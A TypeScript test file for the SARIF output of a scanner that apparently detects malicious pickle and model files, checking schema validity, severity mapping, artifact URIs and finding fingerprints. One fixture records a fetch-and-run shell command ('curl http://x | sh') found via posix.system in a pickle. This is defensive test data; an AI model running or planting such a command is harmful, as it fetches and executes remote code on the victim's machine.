import { readFileSync } from 'node:fs';
import ajvDraft04 from 'ajv-draft-04';
import ajvFormats from 'ajv-formats';
import { describe, expect, it } from 'vitest';
import { makeFinding } from '../src/findings.js';
import { artifactUri, findingFingerprint, renderSarif, SARIF_SCHEMA_URI } from '../src/report/sarif.js';
import { expectGolden } from './fixtures/report/golden.js';
import { emptyReport, makeReport, sampleArtifacts, sampleFindings } from './fixtures/report/sample-report.js';

// CommonJS modules: under NodeNext the class and the plugin are their `default` properties.
const AjvDraft04 = ajvDraft04.default;
const addFormats = ajvFormats.default;

// The normative errata-01 schema, from the shared standards directory next to the repository.
const SARIF_SCHEMA = new URL('../../../../shared/standards/sarif/sarif-schema-2.1.0.json', import.meta.url);

function validator() {
  const schema = JSON.parse(readFileSync(SARIF_SCHEMA, 'utf8')) as Record<string, unknown>;
  const ajv = new AjvDraft04({ allErrors: true, strict: false });
  addFormats(ajv);
  return ajv.compile(schema);
}

// biome-ignore lint/suspicious/noExplicitAny: SARIF is walked as untyped JSON in these assertions.
type Any = any;
const sarifOf = (report = makeReport()): Any => JSON.parse(renderSarif(report));

describe('renderSarif', () => {
  it('validates against the official SARIF 2.1.0 schema (errata 01)', () => {
    const validate = validator();
    for (const report of [makeReport(), emptyReport()]) {
      const ok = validate(JSON.parse(renderSarif(report)));
      expect(validate.errors ?? []).toEqual([]);
      expect(ok).toBe(true);
    }
    // The validator itself must be able to fail.
    const log = sarifOf();
    log.runs[0].results[0].level = 'critical';
    expect(validate(log)).toBe(false);
  });

  it('matches the golden file byte for byte', () => {
    expectGolden('report.sarif', renderSarif(makeReport()));
  });

  it('does not depend on input order', () => {
    const shuffled = makeReport([...sampleFindings].reverse(), [...sampleArtifacts].reverse());
    expect(renderSarif(shuffled)).toBe(renderSarif(makeReport()));
  });

  it('describes one run with the referenced rules, GitHub severity metadata and help', () => {
    const log = sarifOf();
    expect(log.$schema).toBe(SARIF_SCHEMA_URI);
    expect(log.version).toBe('2.1.0');
    expect(log.runs).toHaveLength(1);
    const { driver } = log.runs[0].tool;
    expect(driver).toMatchObject({ name: 'vacsrp', version: '0.1.0', semanticVersion: '0.1.0' });
    const ids = driver.rules.map((r: Any) => r.id);
    expect(ids).toEqual([...new Set(sampleFindings.map((f) => f.ruleId))].sort());
    const pkl1 = driver.rules.find((r: Any) => r.id === 'VAC-PKL-001');
    expect(pkl1.properties['security-severity']).toBe('9.5');
    expect(pkl1.properties.tags).toEqual(expect.arrayContaining(['security', 'CWE-502', 'AML.T0011.000']));
    expect(pkl1.defaultConfiguration.level).toBe('error');
    expect(pkl1.help.text).toMatch(/safetensors/);
    expect(pkl1.helpUri).toMatch(/#vac-pkl-001$/);
    const info = driver.rules.find((r: Any) => r.id === 'VAC-FMT-003');
    expect(info.properties['security-severity']).toBe('0.0');
    expect(info.defaultConfiguration.level).toBe('note');
  });

  it('maps severities to levels and points ruleIndex at the rule', () => {
    const run = sarifOf().runs[0];
    const levels = Object.fromEntries(run.results.map((r: Any) => [r.ruleId, r.level]));
    expect(levels).toMatchObject({
      'VAC-PKL-001': 'error',
      'VAC-PKL-002': 'error', // raised to critical by the finding
      'VAC-ZIP-001': 'error',
      'VAC-PKL-003': 'error',
      'VAC-PKL-008': 'note',
      'VAC-FMT-003': 'note',
    });
    for (const r of run.results) expect(run.tool.driver.rules[r.ruleIndex].id).toBe(r.ruleId);
    const raised = run.results.find((r: Any) => r.ruleId === 'VAC-PKL-002');
    expect(raised.properties.severity).toBe('critical');
  });

  it('points archive members at the outer file and names the member in a logical location', () => {
    const run = sarifOf().runs[0];
    const pkl1 = run.results.find((r: Any) => r.ruleId === 'VAC-PKL-001');
    const loc = pkl1.locations[0];
    expect(loc.physicalLocation.artifactLocation).toMatchObject({
      uri: 'models/model.pt',
      uriBaseId: '%SRCROOT%',
    });
    expect(loc.physicalLocation.region).toEqual({ startLine: 1 });
    expect(loc.logicalLocations[0].fullyQualifiedName).toBe('models/model.pt!archive/data.pkl');
    expect(pkl1.message.text).toContain('models/model.pt!archive/data.pkl@57');
    expect(pkl1.properties.evidence).toEqual({
      callable: 'posix.system',
      opcode: 'REDUCE',
      excerpt: "('curl http://x | sh',)",
    });
    const index = loc.physicalLocation.artifactLocation.index;
    expect(run.artifacts[index].location.uri).toBe('models/model.pt');
  });

  it('gives line 1 (GitHub requires it) and the byte offset for a plain file', () => {
    const run = sarifOf().runs[0];
    const trailing = run.results.find((r: Any) => r.ruleId === 'VAC-PKL-008');
    expect(trailing.locations[0].physicalLocation.region).toEqual({ startLine: 1, byteOffset: 508 });
  });

  it('percent-encodes artifact URIs', () => {
    expect(artifactUri('models/weights v2 ü.bin')).toEqual({
      uri: 'models/weights%20v2%20%C3%BC.bin',
      uriBaseId: '%SRCROOT%',
    });
    expect(artifactUri('./a/#b?.pt')).toEqual({ uri: 'a/%23b%3F.pt', uriBaseId: '%SRCROOT%' });
    expect(artifactUri('dir\\x.pkl').uri).toBe('dir/x.pkl');
    expect(artifactUri('/tmp/a b.pt')).toEqual({ uri: 'file:///tmp/a%20b.pt' });
    expect(artifactUri('C:\\m\\x.pt')).toEqual({ uri: 'file:///C:/m/x.pt' });
  });

  it('lists artifacts with sha-256 hashes and reports skipped and errored ones', () => {
    const run = sarifOf().runs[0];
    const model = run.artifacts.find((a: Any) => a.location.uri === 'models/model.pt');
    expect(model.hashes).toEqual({ 'sha-256': 'a'.repeat(64) });
    const broken = run.artifacts.find((a: Any) => a.location.uri === 'models/broken.pkl');
    expect(broken.hashes).toBeUndefined();
    expect(run.invocations[0].executionSuccessful).toBe(false);
    expect(run.invocations[0].toolExecutionNotifications[0].message.text).toContain('models/broken.pkl');
    expect(run.properties.skipped).toEqual([
      { path: 'models/weights v2 ü.bin', format: 'unknown', reason: 'format not analysed by this version' },
    ]);
    expect(run.properties.errored).toEqual([
      { path: 'models/broken.pkl', format: 'pickle', reason: 'EIO: i/o error, read' },
    ]);
    const clean = sarifOf(
      makeReport(
        sampleFindings,
        sampleArtifacts.filter((a) => a.status !== 'errored'),
      ),
    ).runs[0];
    expect(clean.invocations[0].executionSuccessful).toBe(true);
  });

  it('fingerprints findings stably by rule, location and callable', () => {
    const [a, b] = [sarifOf(), sarifOf()].map((l) =>
      l.runs[0].results.map((r: Any) => r.partialFingerprints),
    );
    expect(a).toEqual(b);
    const values = a.map((p: Any) => p['vacsrpFindingHash/v1']);
    expect(new Set(values).size).toBe(values.length);
    for (const p of a) expect(p.primaryLocationLineHash).toBe(p['vacsrpFindingHash/v1']);

    const base = {
      message: 'm',
      location: { artifact: 'x.pkl', offset: 1 },
      evidence: { callable: 'os.system' },
    };
    const f = makeFinding('VAC-PKL-001', base);
    expect(findingFingerprint(makeFinding('VAC-PKL-001', { ...base, message: 'reworded' }))).toBe(
      findingFingerprint(f),
    );
    expect(
      findingFingerprint(makeFinding('VAC-PKL-001', { ...base, evidence: { callable: 'os.popen' } })),
    ).not.toBe(findingFingerprint(f));
    expect(findingFingerprint(makeFinding('VAC-PKL-002', base))).not.toBe(findingFingerprint(f));
    expect(
      findingFingerprint(makeFinding('VAC-PKL-001', { ...base, location: { artifact: 'x.pkl', offset: 2 } })),
    ).not.toBe(findingFingerprint(f));
  });

  it('numbers identical findings so each keeps its own fingerprint', () => {
    const f = makeFinding('VAC-PKL-001', { message: 'm', location: { artifact: 'x.pkl' } });
    const g = makeFinding('VAC-PKL-001', { message: 'n', location: { artifact: 'x.pkl' } });
    const results = sarifOf(makeReport([f, g], [])).runs[0].results;
    const [p, q] = results.map((r: Any) => r.partialFingerprints['vacsrpFindingHash/v1'] as string);
    expect(p!.slice(0, -2)).toBe(q!.slice(0, -2));
    expect([p!.slice(-2), q!.slice(-2)]).toEqual([':1', ':2']);
  });
});
